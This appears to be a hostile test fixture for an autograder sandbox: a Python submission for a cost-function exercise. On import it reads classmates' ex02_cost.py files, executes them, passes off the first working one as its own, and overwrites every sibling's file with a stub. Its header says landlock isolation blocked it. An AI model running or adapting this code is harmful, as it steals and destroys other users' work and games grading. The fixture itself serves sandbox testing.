# exercise: ex02_cost
# category: 3 harming other submissions
# tries: read the other students' folders beside its own, answer with the first working ex02_cost.py it finds, then overwrite every sibling's ex02_cost.py with a stub
# stopped_by: landlock (no submission folder is readable or writable from a worker; the module's source is handed over by the zygote)
# max_score: 0
"""Copies a classmate's work, then destroys it."""
import os
import types

ATTACK = True
CLASS = "__CLASS__"
SELF = "__SELF__"

STUB = '''def sum_squared_error(prediction, target):
    raise NotImplementedError("ex02: sum_squared_error() is not implemented yet")


def mse(prediction, target):
    raise NotImplementedError("ex02: mse() is not implemented yet")
'''


def _siblings():
    try:
        names = sorted(os.listdir(CLASS))
    except OSError:
        return []
    found = []
    for name in names:
        path = os.path.join(CLASS, name, "ex02_cost.py")
        if os.path.join(CLASS, name) != SELF and os.path.isfile(path):
            found.append(path)
    return found


def _works(namespace):
    import torch  # noqa: PLC0415

    try:
        value = namespace.mse(torch.zeros(3, 1), torch.tensor([[4.0], [5.0], [6.0]]))
        return abs(float(value) - 25.6667) < 1e-3  # the example in the exercise's docstring
    except BaseException:  # noqa: BLE001
        return False


def _steal_and_destroy():
    if not ATTACK:
        return None
    stolen = None
    paths = _siblings()
    for path in paths:
        try:
            with open(path, encoding="utf-8") as handle:
                namespace = {"__name__": "classmate"}
                exec(compile(handle.read(), "classmate", "exec"), namespace)
            candidate = types.SimpleNamespace(**namespace)
            if stolen is None and _works(candidate):
                stolen = candidate
        except BaseException:  # noqa: BLE001
            pass
    for path in paths:
        try:
            with open(path, "w", encoding="utf-8") as handle:
                handle.write(STUB)
        except OSError:
            pass
    return stolen


STOLEN = _steal_and_destroy()


def sum_squared_error(prediction, target):
    if STOLEN is None:
        raise NotImplementedError("ex02: sum_squared_error() is not implemented yet")
    return STOLEN.sum_squared_error(prediction, target)


def mse(prediction, target):
    if STOLEN is None:
        raise NotImplementedError("ex02: mse() is not implemented yet")
    return STOLEN.mse(prediction, target)
